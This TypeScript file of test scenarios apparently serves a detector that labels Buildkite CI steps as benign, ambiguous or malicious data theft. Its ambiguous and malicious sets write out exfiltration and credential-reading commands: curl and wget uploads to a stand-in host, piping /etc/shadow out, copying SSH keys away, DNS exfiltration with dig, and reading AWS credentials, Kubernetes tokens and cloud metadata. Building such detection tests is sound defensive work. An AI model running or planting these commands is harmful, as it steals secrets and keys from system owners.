import { ran, scenarios } from './scenario.ts';

/** A step of Buildkite that nothing but its own text speaks against. */
function step(code: string) {
  const line = `/bin/bash -e -c ${code}`;
  return ran('buildkite-agent', 'systemctl --user enable app', 'bash', line, 'buildkite-agent');
}

const TO = 'https://files.example.net/';

/** Steps that send away what they read, or read keys: what a build publishes looks the same. */
export const quietDataScenarios = scenarios('ambiguous', 'data taken', [
  ['curl sends a file', step(`curl -fsST x.tgz ${TO}`)],
  ['curl sends a file, by the long option', step(`curl ${TO} --upload-file x`)],
  ['curl sends a file behind a header with a semicolon', step(`curl -H 'A: b;c' ${TO} -d @x`)],
  ['curl sends a form', step(`curl -sF "file=@x" ${TO}`)],
  ['curl sends a form with a text', step(`curl --form text=<x ${TO}`)],
  ['curl sends data', step(`curl -d @x ${TO}`)],
  ['curl sends data, joined', step(`curl -sd@x ${TO}`)],
  ['curl sends binary data', step(`curl --data-binary @- ${TO} < x`)],
  ['curl sends encoded data', step(`curl --data-urlencode a@x ${TO}`)],
  ['curl sends what a command reads', step(`curl -d "$(env)" ${TO}`)],
  ['curl asks for what a command reads', step(`curl "${TO}?q=$(base64 -w0 x)"`)],
  ['wget sends a file', step(`wget --post-file=x ${TO}`)],
  ['wget sends a file, shortened', step(`wget --method=PUT --body-f x ${TO}`)],
  ['an archive goes to another host', step('tar cz /srv | ssh files.example.net cat')],
  [
    'an archive goes to another host behind gzip',
    step('tar c /srv | gzip | /usr/bin/ssh files.example.net cat'),
  ],
  ['a file goes to an address', step('scp x.tgz deploy@203.0.113.9:/srv')],
  ['a directory goes to a drive of a cloud', step('rclone copy /srv remote:x')],
  ['a name that a name server is asked for', step('dig $(base32 x).files.example.net')],
  ['a directory is served', step('python3 -m http.server 8000 & make')],
  ['a private key is copied', step('scp ~/.ssh/id_rsa files.example.net:')],
  ['a directory of keys is copied', step('rsync -a /root/.ssh/ files.example.net:x')],
  ['a cluster’s keys are read', step('cp $HOME/.kube/config x')],
  ['a pod’s token is read', step('cat /var/run/secrets/kubernetes.io/serviceaccount/token')],
  ['a process’s variables are read', step('strings /proc/1/environ')],
  ['a private key is read as input', step('openssl rsa < /etc/ssh/ssh_host_rsa_key')],
]);

/** As these, with both. */
export const maliciousDataScenarios = scenarios('malicious', 'data taken', [
  ['the password file is sent', step(`sudo cat /etc/shadow | curl -d @- ${TO}`)],
  ['the password file goes to a web server', step(`curl -T /etc/shadow ${TO}`)],
  ['keys go to another host', step('tar cz /root/.ssh | ssh files.example.net cat')],
  ['keys of a cloud are read', step('cat ~/.aws/credentials')],
  [
    'a cloud’s token is read',
    step('curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x'),
  ],
]);

/** Steps that use keys and send no file, as deployments do. */
export const benignDataScenarios = scenarios('benign', 'ci-runner', [
  ['a step with a key for SSH', step('ssh -i ~/.ssh/id_ed25519 deploy@web.example.com ./deploy.sh')],
  [
    'a step with a key for rsync',
    step('rsync -e "ssh -i ~/.ssh/id_rsa" -a dist/ deploy@web.example.com:/srv'),
  ],
  ['a step with a key for the agent', step('ssh-add ~/.ssh/id_rsa && scp app.tgz web.example.com:/srv')],
  ['a step that copies a public key', step('cp ~/.ssh/id_rsa.pub keys/')],
  ['a step that writes a key', step('echo "$KEY" > ~/.ssh/id_rsa && make')],
  ['a step that copies to a private address', step('scp x.tgz deploy@10.0.0.7:/srv')],
  ['a step that tells a chat', step('curl -X POST -d {"text":"x"} https://hooks.example.com/x')],
  [
    'a step with a token in a header',
    step('curl -H "Authorization: Bearer $(cat token)" https://api.example.com/x'),
  ],
]);
